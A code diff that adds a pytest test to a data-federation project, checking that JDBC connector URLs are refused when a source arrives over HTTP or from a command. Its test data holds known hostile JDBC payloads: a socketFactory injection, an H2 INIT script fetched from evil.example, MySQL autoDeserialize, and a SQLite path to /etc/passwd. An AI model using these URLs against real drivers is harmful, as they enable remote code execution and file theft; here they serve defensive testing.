@@ -6,8 +6,9 @@ from dataclasses import replace
 
 import pytest
 
-from forge.federation.limits import SourceLimits, find_breaches
-from forge.federation.source import ConnectorKind, Source
+from forge.federation.limits import SourceLimits, find_breaches, refuse_out_of_files
+from forge.federation.source import ConnectorKind, Source, SourceOrigin
+from forge.model.errors import ForgeError
 
 LIMITS = SourceLimits(
     ("db.example.com", "pool.example.com:6432", "[::1]:5433"), ("FORGE_SOURCE_*", "CRM_PASSWORD"), ("data/shared",)
@@ -222,3 +223,24 @@ def test_of_objects_only_named_buckets_of_aws_are_reached() -> None:
     delta = replace(EVENTS, path="s3a://sales/events")
     assert (places(delta, named), places(delta)) == ([], ["path"])
     assert places(replace(TILL, path="s3a://sales/till.db"), named) == ["path"]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "jdbc:postgresql://db.example.com/crm",
+        "jdbc:postgresql://db.example.com/crm?socketFactory=evil.Factory&socketFactoryArg=x",
+        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'https://evil.example/x.sql'",
+        "jdbc:mysql://db.example.com/crm?autoDeserialize=true",
+        "jdbc:sqlite:data/shared/till.db",
+        "jdbc:sqlite:/etc/passwd",
+    ],
+)
+def test_no_database_is_reached_by_its_driver(url: str) -> None:
+    source = Source("door", ConnectorKind.JDBC, url=url)
+    wide = SourceLimits(("db.example.com", "*"), ("*",), ("", "data"))
+    assert places(source, wide) == ["connector"]
+    for origin in (SourceOrigin.HTTP, SourceOrigin.COMMAND):
+        with pytest.raises(ForgeError, match="E886"):
+            refuse_out_of_files(replace(source, origin=origin))
+    refuse_out_of_files(source)
